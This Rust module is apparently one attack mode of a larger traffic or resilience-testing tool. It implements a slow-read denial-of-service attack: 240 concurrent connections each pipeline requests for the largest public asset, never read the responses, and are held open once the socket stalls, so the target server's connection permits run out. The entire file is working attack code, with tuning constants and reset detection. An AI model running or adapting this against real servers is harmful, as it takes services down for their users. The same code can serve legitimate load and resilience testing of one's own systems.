//! Clients that pipeline requests and never read the responses.
//!
//! A server that waits for each response to be read keeps such a connection, and its permit,
//! forever.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::context::Context;
use super::error::AttackError;
use super::http::request;

/// Connections at a time, over all addresses.
const CONNECTIONS: usize = 240;

/// The requested path: the longest public response.
const ASSET: &str = "GET /assets/playback.js";

/// Requests that are sent at once.
const PIPELINE: usize = 16;

/// Time without progress after which the connection counts as full.
const FULL_AFTER: Duration = Duration::from_secs(1);

/// From one look at a full connection to the next, and from its end to a new one.
const PAUSE: Duration = Duration::from_millis(500);

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let mut connections = JoinSet::new();
    for source in 0..CONNECTIONS {
        let context = context.clone();
        connections.spawn(async move {
            loop {
                if hold(&context, source).await.is_err() {
                    context.add("connections closed", 1.0);
                }
                sleep(PAUSE).await;
            }
        });
    }
    context.rest().await;
    Ok(())
}

/// Sends requests until nothing more is taken, and then stays.
async fn hold(context: &Context, source: usize) -> Result<(), AttackError> {
    let host = context.target().http;
    let mut stream = context.connect_narrow(host, source).await?;
    let requests = request(host, ASSET, "", "").repeat(PIPELINE);
    loop {
        context.spend(requests.len()).await;
        match timeout(FULL_AFTER, stream.write_all(requests.as_bytes())).await {
            Ok(written) => written?,
            Err(_) => break,
        }
    }
    context.add("connections filled", 1.0);
    loop {
        sleep(PAUSE).await;
        is_open(&stream)?;
    }
}

/// Fails once the gateway has reset the connection.
fn is_open(stream: &TcpStream) -> Result<(), AttackError> {
    match stream.take_error()? {
        Some(error) => Err(error.into()),
        None => match stream.try_write(b"G") {
            Err(error) if error.kind() != std::io::ErrorKind::WouldBlock => Err(error.into()),
            _ => Ok(()),
        },
    }
}
